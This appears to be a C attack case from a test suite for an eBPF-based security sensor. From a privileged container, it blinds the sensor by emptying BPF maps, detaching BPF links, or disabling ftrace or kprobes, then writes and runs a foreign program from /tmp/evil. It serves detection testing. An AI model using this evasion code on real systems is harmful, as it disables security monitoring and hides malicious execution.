/*
 * The sensor is reached from the container, with CAP_SYS_ADMIN: its maps by their numbers, its links,
 * the kernel's tracing. Then a foreign program runs. Argument: maps, links, ftrace, kprobes.
 * Must be seen: that it was tried, or the foreign program's digest.
 */
#include <linux/bpf.h>

#include "attack.h"

static int bpf(int command, union bpf_attr *attr) { return syscall(SYS_bpf, command, attr, sizeof(*attr)); }

/* Empty each map that has an entry to take away. */
static int empty_maps(void)
{
	union bpf_attr next = {0}, attr;
	uint32_t id = 0;
	int changed = 0;

	for (;;) {
		memset(&next, 0, sizeof(next));
		next.start_id = id;
		if (bpf(BPF_MAP_GET_NEXT_ID, &next) < 0) {
			if (errno == EPERM)
				return -1;
			return changed;
		}
		id = next.next_id;
		memset(&attr, 0, sizeof(attr));
		attr.map_id = id;
		int fd = bpf(BPF_MAP_GET_FD_BY_ID, &attr);
		struct bpf_map_info info = {0};
		if (fd < 0)
			return -1;
		memset(&attr, 0, sizeof(attr));
		attr.info.bpf_fd = fd;
		attr.info.info_len = sizeof(info);
		attr.info.info = (uintptr_t)&info;
		if (bpf(BPF_OBJ_GET_INFO_BY_FD, &attr) < 0)
			return -1;
		if (info.type == BPF_MAP_TYPE_HASH || info.type == BPF_MAP_TYPE_LRU_HASH)
			for (int guard = 0; guard < 100000; guard++) {
				char key[512];
				memset(&attr, 0, sizeof(attr));
				attr.map_fd = fd;
				attr.next_key = (uintptr_t)key;
				if (bpf(BPF_MAP_GET_NEXT_KEY, &attr) < 0)
					break;
				memset(&attr, 0, sizeof(attr));
				attr.map_fd = fd;
				attr.key = (uintptr_t)key;
				if (bpf(BPF_MAP_DELETE_ELEM, &attr) < 0)
					break;
				changed++;
			}
		close(fd);
	}
}

static int detach_links(void)
{
	union bpf_attr attr;
	int changed = 0;

	for (uint32_t id = 1; id < 500; id++) {
		memset(&attr, 0, sizeof(attr));
		attr.link_id = id;
		int fd = bpf(BPF_LINK_GET_FD_BY_ID, &attr);
		if (fd < 0 && errno == EPERM)
			return -1;
		if (fd < 0)
			continue;
		memset(&attr, 0, sizeof(attr));
		attr.link_detach.link_fd = fd;
		changed += bpf(BPF_LINK_DETACH, &attr) == 0;
		close(fd);
	}
	return changed;
}

ATTACK(blinded_sensor)
{
	int changed = 0;

	if (is_mode(argv, "maps")) {
		changed = empty_maps();
	} else if (is_mode(argv, "links")) {
		changed = detach_links();
	} else if (is_mode(argv, "ftrace")) {
		write_text("/proc/sys/kernel/ftrace_enabled", "0\n");
	} else {
		must(mount("none", "/mnt", "debugfs", 0, 0), "mount debugfs");
		write_text("/mnt/kprobes/enabled", "0\n");
	}
	printf("changed: %d\n", changed);
	write_file("/tmp/evil", evil_program, evil_program_end - evil_program, 0755);
	truth("/tmp/evil");
	execute("/tmp/evil");
	if (changed < 0)
		refused("bpf");
	return 0;
}
